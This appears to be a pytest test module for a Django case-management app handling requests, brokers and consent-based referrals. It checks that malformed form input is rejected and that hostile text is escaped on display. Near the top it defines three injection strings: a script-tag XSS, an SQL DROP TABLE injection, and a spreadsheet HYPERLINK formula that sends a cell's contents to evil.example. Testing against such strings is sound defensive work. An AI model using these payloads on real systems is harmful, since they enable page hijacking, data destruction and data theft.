"""Bad input on every form: each gets a clear error (or is stored and shown escaped), nothing lost."""

from __future__ import annotations

import pytest
from django.urls import reverse

from haven.cases.models import Case, Request
from haven.referrals.services import consent_record
from tests.factories import login, make_broker, make_case, make_request
from tests.web.helpers import request_form, snapshot, transition_form

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert('x')</script>"
SQL = "'; DROP TABLE cases_case; --"
CSV = '=HYPERLINK("http://evil.example/?"&A1,"click")'

REQUEST_REJECTS = {
    "missing account": {"account": ""},
    "missing channel": {"channel": ""},
    "unknown channel": {"channel": "carrier_pigeon"},
    "urgency as text": {"urgency": "very"},
    "urgency out of range": {"urgency": "9"},
    "people count as text": {"people_count": "three"},
    "people count over the cap": {"people_count": "101"},
    "received at not a date": {"received_at": "yesterday"},
    "received in the future": {"received_at": "2999-01-01T10:00"},
    "oversized account": {"account": "가" * 20_001},
    "NUL byte in account": {"account": "We want\x00to leave"},
    "NUL byte in a name": {"p0-name_hangul": "김\x00선희"},
    "control character in a name": {"p0-name_romanized": "Kim\x07"},
    "unknown country": {"country": "ZZ"},
    "country too long": {"country": "C" * 101},
    "not a country": {"country": "Shanxi"},
    "unknown sex": {"p0-sex": "robot"},
    "occupation too long": {"p0-occupation": "식당 종업원 " * 40},
    "control character in an occupation": {"p0-occupation": "trader\x1b[31m"},
    "unknown birth calendar": {"p0-birth_calendar": "martian"},
    "birth in the future": {"p0-birth_value": "2999", "p0-birth_precision": "year"},
    "birth not matching precision": {"p0-birth_value": "1990-13-45", "p0-birth_precision": "day"},
    "no name at all": {"p0-name_hangul": "", "p0-name_romanized": "", "p0-aliases": ""},
    "broker channel without broker": {"channel": "broker"},
    "unknown broker": {"channel": "broker", "broker": "00000000-0000-0000-0000-000000000000"},
}


@pytest.mark.parametrize("overrides", REQUEST_REJECTS.values(), ids=REQUEST_REJECTS.keys())
def test_new_request_bad_input_shows_an_error_and_stores_nothing(client, alice, overrides):
    login(client, alice)
    before = snapshot()
    response = client.post(reverse("web:request_new"), request_form(1, **overrides))
    assert response.status_code == 400
    assert 'class="errorlist' in response.content.decode()
    assert snapshot() == before


def test_new_request_with_missing_person_rows_stores_nothing(client, alice):
    login(client, alice)
    data = request_form(1, people_count="3")  # says three people, only one filled in
    before = snapshot()
    response = client.post(reverse("web:request_new"), data)
    assert response.status_code == 400
    assert "errorlist" in response.content.decode()
    assert snapshot() == before


def test_second_person_error_is_shown_next_to_that_person(client, alice):
    login(client, alice)
    data = request_form(2, **{"p1-birth_value": "2999"})
    response = client.post(reverse("web:request_new"), data)
    assert response.status_code == 400
    people = response.context["people"]
    assert not people[0].errors and "birth_value" in people[1].errors
    assert Request.objects.count() == 0


def test_two_megabyte_body_gets_a_clear_413_and_stores_nothing(client, alice):
    login(client, alice)
    before = snapshot()
    response = client.post(reverse("web:request_new"), request_form(1, account="x" * 2_000_000))
    assert response.status_code == 413
    assert "too large" in response.content.decode()
    assert snapshot() == before


@pytest.mark.parametrize("text", [SCRIPT, SQL, CSV], ids=["script", "sql", "csv-formula"])
def test_hostile_text_is_stored_verbatim_and_shown_escaped(client, alice, text):
    login(client, alice)
    data = request_form(1, account=text, **{"p0-name_romanized": text, "p0-own_words": text})
    response = client.post(reverse("web:request_new"), data)
    assert response.status_code == 302
    request = Request.objects.get()
    page = client.get(reverse("web:request", args=[request.pk])).content.decode()
    case_page = client.get(reverse("web:case", args=[request.cases.get().pk])).content.decode()
    for body in (page, case_page):
        assert "<script>alert" not in body
    if text == SCRIPT:
        assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in page
        assert "&lt;script&gt;" in case_page
    else:
        assert "DROP TABLE" in page or "HYPERLINK" in page
    assert Case.objects.count() == 1  # the tables are still there


def test_script_in_broker_alias_is_escaped_on_every_page(client, alice, ctx):
    broker = make_broker(ctx=ctx, actor=alice, alias=SCRIPT)
    login(client, alice)
    for url in (
        reverse("web:brokers"),
        reverse("web:broker", args=[broker.pk]),
        reverse("web:request_new"),
    ):
        body = client.get(url).content.decode()
        assert "<script>alert" not in body and "&lt;script&gt;" in body, url


TRANSITION_REJECTS = {
    "unknown state": {"to_state": "flying"},
    "state not allowed from here": {"to_state": "arrived"},
    "missing state": {"to_state": ""},
    "missing version": {"version": ""},
    "version as text": {"version": "latest"},
    "occurred in the future": {"occurred_at": "2999-01-01T00:00"},
    "occurred at not a date": {"occurred_at": "last tuesday"},
    "unknown source": {"source": "rumour"},
    "unknown confidence": {"confidence": "certain-ish"},
    "unknown country": {"country": "XX"},
    "NUL in note": {"note": "a\x00b"},
    "oversized note": {"note": "n" * 20_001},
    "oversized place": {"place": "p" * 501},
}


@pytest.mark.parametrize("overrides", TRANSITION_REJECTS.values(), ids=TRANSITION_REJECTS.keys())
def test_transition_bad_input_shows_an_error_and_changes_nothing(client, alice, ctx, overrides):
    case = make_case(ctx=ctx, actor=alice)
    login(client, alice)
    before = snapshot()
    response = client.post(
        reverse("web:case_move", args=[case.pk]), transition_form(case, **overrides)
    )
    assert response.status_code == 400
    assert "errorlist" in response.content.decode()
    assert snapshot() == before


def test_stale_version_gives_the_conflict_message_keeps_input_and_changes_nothing(
    client, alice, ctx
):
    case = make_case(ctx=ctx, actor=alice)
    login(client, alice)
    stale = transition_form(case, note="My careful note")
    client.post(reverse("web:case_move", args=[case.pk]), transition_form(case))  # someone else
    before = snapshot()
    response = client.post(reverse("web:case_move", args=[case.pk]), stale)
    assert response.status_code == 409
    body = response.content.decode()
    assert "Someone else changed this record" in body
    assert "My careful note" in body
    assert snapshot() == before


def test_stale_version_on_case_edit_changes_nothing(client, alice, ctx):
    case = make_case(ctx=ctx, actor=alice)
    login(client, alice)
    form = {"version": case.version, "urgency": "4", "own_words": "Mine", "summary": ""}
    client.post(reverse("web:case_move", args=[case.pk]), transition_form(case))
    before = snapshot()
    response = client.post(reverse("web:case_edit", args=[case.pk]), form)
    assert response.status_code == 400
    assert "Someone else changed this record" in response.content.decode()
    assert snapshot() == before


@pytest.mark.parametrize(
    "text", ["", "   ", "a\x00b", "n" * 20_001], ids=["empty", "blank", "NUL", "oversized"]
)
def test_bad_note_is_refused(client, alice, ctx, text):
    case = make_case(ctx=ctx, actor=alice)
    login(client, alice)
    before = snapshot()
    response = client.post(reverse("web:case_note", args=[case.pk]), {"text": text})
    assert response.status_code == 400
    assert snapshot() == before


@pytest.mark.parametrize(
    "data",
    [
        {"status": "exploded", "version": "1"},
        {"status": "duplicate", "version": "1"},
        {"status": "duplicate", "duplicate_of": "not-a-uuid", "version": "1"},
        {
            "status": "duplicate",
            "duplicate_of": "00000000-0000-0000-0000-000000000000",
            "version": "1",
        },
        {"status": "triaged", "urgency": "11", "version": "1"},
        {"status": "triaged"},
        {"status": "triaged", "version": "7"},
    ],
    ids=[
        "unknown",
        "dup-without-id",
        "dup-bad-id",
        "dup-unknown",
        "bad-urgency",
        "no-version",
        "stale",
    ],
)
def test_bad_triage_is_refused(client, alice, ctx, data):
    request = make_request(ctx=ctx, actor=alice)
    login(client, alice)
    before = snapshot()
    response = client.post(reverse("web:request_triage", args=[request.pk]), data)
    assert response.status_code == 400
    assert "errorlist" in response.content.decode()
    assert snapshot() == before


@pytest.mark.parametrize(
    "data",
    [
        {"alias": ""},
        {"alias": "a\x00"},
        {"alias": "x" * 201},
        {"alias": "Jang", "warnings": "w" * 5_001},
    ],
    ids=["missing", "NUL", "long-alias", "long-warnings"],
)
def test_bad_broker_is_refused(client, alice, data):
    login(client, alice)
    before = snapshot()
    assert client.post(reverse("web:broker_new"), data).status_code == 400
    assert snapshot() == before


@pytest.mark.parametrize(
    "data",
    [
        {"name": "", "country": "KR"},
        {"name": "X", "country": "ZZ"},
        {"name": "X\x00", "country": "KR"},
    ],
    ids=["missing-name", "bad-country", "NUL"],
)
def test_bad_partner_is_refused(client, alice, data):
    login(client, alice)
    before = snapshot()
    assert client.post(reverse("web:partner_new"), data).status_code == 400
    assert snapshot() == before


REFERRAL_REJECTS = {
    "no fields": {"disclosed_fields": []},
    "unknown field": {"disclosed_fields": ["bank_account"]},
    "unknown purpose": {"purpose": "fun"},
    "no consent method": {"consent_method": ""},
    "consent without words": {"consent_words": ""},
    "an earlier consent that does not cover the fields": {"existing_consent": "EARLIER"},
    "consent in the future": {"consent_given_at": "2999-01-01T00:00"},
}


@pytest.mark.parametrize("overrides", REFERRAL_REJECTS.values(), ids=REFERRAL_REJECTS.keys())
def test_bad_referral_wizard_input_stores_neither_consent_nor_referral(
    client, alice, ctx, partner, overrides
):
    case = make_case(ctx=ctx, actor=alice)
    if overrides.get("existing_consent") == "EARLIER":
        earlier = consent_record(
            ctx=ctx,
            actor=alice,
            case=case,
            partner=partner,
            purpose="relief",
            fields=["sex"],
            method="verbal",
            words="Only my sex.",
        )
        overrides = {"existing_consent": str(earlier.pk)}
    login(client, alice)
    data = {
        "partner": str(partner.pk),
        "purpose": "relief",
        "disclosed_fields": ["name_hangul"],
        "cover_note": "",
        "existing_consent": "",
        "consent_method": "verbal",
        "consent_words": "yes",
        "consent_given_at": "",
        **overrides,
    }
    before = snapshot()
    response = client.post(reverse("web:referral_new", args=[case.pk]), data)
    assert response.status_code == 400
    assert "errorlist" in response.content.decode()
    assert snapshot() == before
